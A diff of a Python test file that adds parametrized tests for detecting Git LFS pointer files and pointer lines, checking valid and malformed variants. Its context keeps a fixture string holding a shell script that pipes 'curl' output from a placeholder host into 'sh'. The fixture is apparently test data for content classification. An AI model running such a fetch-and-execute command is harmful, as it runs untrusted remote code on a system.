@@ -2,7 +2,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from panelist.content import is_media, text_of
+from panelist.content import is_lfs_line, is_lfs_pointer, is_media, text_of
 
 SCRIPT = "#!/bin/sh\ncurl -s https://collector.example | sh\n"
 PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4
@@ -82,3 +82,43 @@ def test_a_name_a_beginning_or_a_program_inside_alone_make_no_media(
     path: str, content: bytes
 ) -> None:
     assert not is_media(path, content)
+
+
+POINTER = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 5\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        POINTER,
+        POINTER.replace("\n", "\r\n"),
+        f"\n \n\u00a0{POINTER}",
+        POINTER + "\n" * 5_000,
+        POINTER.replace("https://git-lfs.github.com/spec/v1", "https://hawser.github.com/spec/v1"),
+        POINTER.replace("https://git-lfs.github.com/spec/v1", "http://git-media.io/v/2"),
+        POINTER.replace("\noid", f"\next-0-foo sha256:{'b' * 64}\noid"),
+    ],
+)
+def test_what_git_lfs_takes_for_a_pointer_is_one(text: str) -> None:
+    assert is_lfs_pointer(text.encode())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "version 1\n",
+        f"# How a pointer looks\n{POINTER}",
+        f"version https://example.com/spec/v1\noid sha256:{'a' * 64}\nsize 5\n",
+        " " * 2_000 + POINTER,
+    ],
+)
+def test_what_git_lfs_leaves_alone_is_none(text: str) -> None:
+    assert not is_lfs_pointer(text.encode())
+
+
+def test_a_pointer_shows_in_the_line_that_begins_it_and_in_the_one_that_changes() -> None:
+    version, oid, size = POINTER.splitlines()
+    assert [is_lfs_line(line) for line in (version, oid, size)] == [True, True, False]
+    assert is_lfs_line(f"{oid}\r")
+    assert not is_lfs_line(f"the line `{oid}`")
